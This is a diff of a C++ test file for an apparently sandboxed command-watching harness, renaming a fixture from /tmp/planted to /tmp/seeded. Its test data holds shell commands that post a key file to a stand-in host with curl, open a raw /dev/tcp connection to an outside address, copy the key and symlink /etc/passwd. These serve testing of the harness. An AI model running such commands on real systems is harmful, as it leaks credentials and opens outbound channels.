@@ -21,7 +21,7 @@ using testing::SizeIs;
 
 const std::vector<std::string> deeds = {
     "echo changed >> ~/notes; rm ~/old; mkdir -p /tmp/d && cp ~/key /tmp/d/copy; chmod 600 ~/notes",
-    "cat /tmp/planted ~/key > /dev/null; ln -s /etc/passwd ~/link",
+    "cat /tmp/seeded ~/key > /dev/null; ln -s /etc/passwd ~/link",
     "curl -s -d @$HOME/key http://drop.example/in",
     "curl -s https://shop.example/x; (exec 3<>/dev/tcp/203.0.113.7/8443; echo hi >&3)"};
 
@@ -29,7 +29,7 @@ record::World furnished() {
   return {.files = {{.path = "/home/dev/notes", .content = "notes\n"},
                     {.path = "/home/dev/old", .content = "old\n"},
                     {.path = "/home/dev/key", .content = "key={{canary:session}}\n", .mode = 0600},
-                    {.path = "/tmp/planted", .content = "p\n", .mode = 0640, .owner = "root"}}};
+                    {.path = "/tmp/seeded", .content = "p\n", .mode = 0640, .owner = "root"}}};
 }
 
 std::vector<std::string> without(const auto& some, const auto& others) {
@@ -68,7 +68,7 @@ TEST(Companion, BringsBackWhatWasSent) {
 
 TEST(Companion, PlantsInATmpfsWithModesAndOwners) {
   const Watched beside =
-      watched_by(CompanionUse::always, {.world = furnished()}, {"stat -c '%a %u:%g' /tmp/planted"});
+      watched_by(CompanionUse::always, {.world = furnished()}, {"stat -c '%a %u:%g' /tmp/seeded"});
 
   EXPECT_EQ(beside.endings.at(0).out, "640 0:0\n");
 }
